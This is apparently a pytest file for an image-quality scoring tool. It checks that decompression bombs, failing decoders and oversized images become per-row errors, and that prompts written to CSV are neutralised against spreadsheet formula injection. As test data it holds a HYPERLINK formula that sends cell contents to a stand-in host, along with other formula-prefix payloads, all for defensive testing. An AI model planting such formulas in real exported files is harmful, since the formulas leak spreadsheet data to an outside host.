"""One hostile file never aborts a corpus run: a decompression bomb, a decoder that raises
anything, an image over the pixel limit are that row's error (the rows around it are scored and
on disk); the datasets name the file; prompts from files reach CSV outputs inert (no
spreadsheet formula), and --resume reads them back as written."""

import json

import numpy as np
import pandas as pd
import pytest
from PIL import Image, ImageFile

import pyiqa_agiqa  # noqa: F401
from pyiqa_agiqa.cli import main
from pyiqa_agiqa.data.image_io import ImageReadError, load_rgb, probe_image, set_max_pixels
from pyiqa_agiqa.scoring.output import from_spreadsheet_safe, read_scores, spreadsheet_safe

from conftest import dataset_opt, write_bomb_png

TINY = ['--random-weights', '--set', 'clip_model=AGIQA-Tiny-ViT', '--set', 'min_side=64', '--set', 'stride=8',
        '--device', 'cpu', '-q']
FORMULA = '=HYPERLINK("http://x.example/?a="&A1,"click")'


@pytest.fixture(autouse=True)
def default_pixel_limit():
    limit = Image.MAX_IMAGE_PIXELS
    yield
    Image.MAX_IMAGE_PIXELS = limit


def picture(path, size=(64, 64), seed=0):
    rng = np.random.default_rng(seed)
    Image.fromarray((rng.random((*size, 3)) * 255).astype(np.uint8)).save(path)
    return path


def test_a_bomb_is_refused_from_its_header_naming_the_file(tmp_path):
    bomb = write_bomb_png(tmp_path / 'bomb.png')
    assert bomb.stat().st_size < 100_000
    pattern = r'bomb\.png: it declares 1,600,000,000 pixels, more than the limit of 89,478,485.*--max-pixels'
    with pytest.raises(ImageReadError, match=pattern):
        load_rgb(bomb)
    assert probe_image(str(bomb)).startswith('too large')
    # just over the limit, where PIL itself would only warn: refused as well
    small = picture(tmp_path / 'small.png', (100, 100))
    set_max_pixels(9_999)
    with pytest.raises(ImageReadError, match='100 x 100 = 10,000 pixels, more than the limit of 9,999'):
        load_rgb(small)
    set_max_pixels(10_000)
    assert load_rgb(small).size == (100, 100)


class _Exploding(ImageFile.ImageFile):
    """A decoder plugin whose decoding raises an arbitrary exception (as third-party plugins may)."""
    format, format_description = 'EXPLODE', 'test format whose decoder raises'

    def _open(self):
        self._size, self._mode = (8, 8), 'RGB'

    def load(self):
        raise KeyError('decoder state lost')


Image.register_open(_Exploding.format, _Exploding, lambda prefix: prefix[:7] == b'EXPLODE')


def test_any_exception_of_a_decoder_is_an_image_read_error(tmp_path):
    path = tmp_path / 'weird.img'
    path.write_bytes(b'EXPLODE and some bytes')
    with pytest.raises(ImageReadError, match=r"weird\.img: KeyError: 'decoder state lost'"):
        load_rgb(path)


def test_a_bomb_second_in_a_csv_is_its_row_and_the_other_rows_are_scored(tmp_path, capsys):
    picture(tmp_path / 'a.png')
    write_bomb_png(tmp_path / 'bomb.png')
    (tmp_path / 'weird.img').write_bytes(b'EXPLODE and some bytes')
    picture(tmp_path / 'c.png', seed=1)
    pd.DataFrame({'image': ['a.png', 'bomb.png', 'weird.img', 'c.png'],
                  'prompt': ['a cat', 'a dog', 'an owl', 'a fox']}).to_csv(tmp_path / 'list.csv', index=False)
    out = tmp_path / 'out.csv'
    # workers=1: the files are decoded in a DataLoader worker process, where the bomb used to end the run
    assert main(['score', 'ipce', '--csv', str(tmp_path / 'list.csv'), '-o', str(out), '--workers', '1'] + TINY) == 1
    err = capsys.readouterr().err
    assert '2 of 4 images scored' in err and 'Traceback' not in err
    table = read_scores(str(out)).set_index('image')
    names = {p.rsplit('/', 1)[-1]: p for p in table.index}
    assert table.loc[names['a.png'], 'error'] == '' and table.loc[names['c.png'], 'error'] == ''
    assert 'more than the limit of 89,478,485' in table.loc[names['bomb.png'], 'error']
    assert 'KeyError' in table.loc[names['weird.img'], 'error']
    # the limit is an option: --max-pixels 1000 refuses the 64 x 64 images too
    assert main(['score', 'ipce', '--csv', str(tmp_path / 'list.csv'), '-o', str(tmp_path / 'o2.csv'),
                 '--max-pixels', '1000'] + TINY) == 1
    assert (read_scores(str(tmp_path / 'o2.csv'))['error'] != '').all()


def test_a_training_dataset_names_the_hostile_file(demo_data, tmp_path):
    from pyiqa_agiqa.data.agiqa_dataset import AGIQADataset

    csv, images = demo_data
    meta = pd.read_csv(csv)
    row = meta.index[meta['demo_split_01'] == 'train'][0]
    root = tmp_path / 'images'
    root.mkdir()
    for name in meta['name']:
        (root / name).symlink_to(images / name)
    (root / meta.loc[row, 'name']).unlink()
    write_bomb_png(root / meta.loc[row, 'name'])
    opt = dataset_opt(demo_data, dataroot_target=str(root))
    with pytest.raises(FileNotFoundError, match=rf"{meta.loc[row, 'name']}: too large"):
        AGIQADataset(opt)
    dataset = AGIQADataset(dict(opt, check_images=False))
    index = next(i for i, item in enumerate(dataset.paths_mos) if item['row'] == row)
    with pytest.raises(ImageReadError, match=rf"{meta.loc[row, 'name']}: it declares 1,600,000,000 pixels"):
        dataset[index]


def test_cells_that_start_a_formula_are_neutralised_and_read_back_as_written():
    for text in (FORMULA, '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', "'=already quoted", "'plain"):
        assert spreadsheet_safe(text).startswith("'") and from_spreadsheet_safe(spreadsheet_safe(text)) == text
    for text in ('a cat', '', 'x=1', '1-2'):
        assert spreadsheet_safe(text) == text


def test_a_formula_prompt_is_inert_in_csv_raw_in_jsonl_and_survives_resume(tmp_path):
    picture(tmp_path / 'a.png')
    picture(tmp_path / 'b.png', seed=1)
    (tmp_path / 'broken.png').write_bytes(b'\x89PNG\r\n\x1a\nnot really')
    pd.DataFrame({'image': ['a.png', 'b.png', 'broken.png'],
                  'prompt': [FORMULA, '-a dog', '@owl']}).to_csv(tmp_path / 'list.csv', index=False)
    out = tmp_path / 'scores.csv'
    assert main(['score', 'ipce', '--csv', str(tmp_path / 'list.csv'), '-o', str(out)] + TINY) == 1
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert sorted(raw['prompt']) == sorted(["'" + FORMULA, "'-a dog", "'@owl"])  # what a spreadsheet sees
    assert not raw['prompt'].str[0].isin(list('=+-@\t\r')).any()
    assert sorted(read_scores(str(out))['prompt']) == sorted([FORMULA, '-a dog', '@owl'])
    # resume keeps the two scored rows, retries the broken one, and the file stays inert
    (tmp_path / 'broken.png').unlink()
    picture(tmp_path / 'broken.png', seed=2)
    assert main(['score', 'ipce', '--csv', str(tmp_path / 'list.csv'), '-o', str(out), '--resume'] + TINY) == 0
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(raw) == 3 and not raw['prompt'].str[0].isin(list('=+-@\t\r')).any()
    assert sorted(read_scores(str(out))['prompt']) == sorted([FORMULA, '-a dog', '@owl'])
    jsonl = tmp_path / 'scores.jsonl'
    main(['score', 'ipce', '--csv', str(tmp_path / 'list.csv'), '-o', str(jsonl)] + TINY)
    prompts = [json.loads(line)['prompt'] for line in jsonl.read_text().splitlines()]
    assert sorted(prompts) == sorted([FORMULA, '-a dog', '@owl'])  # JSONL keeps the raw text
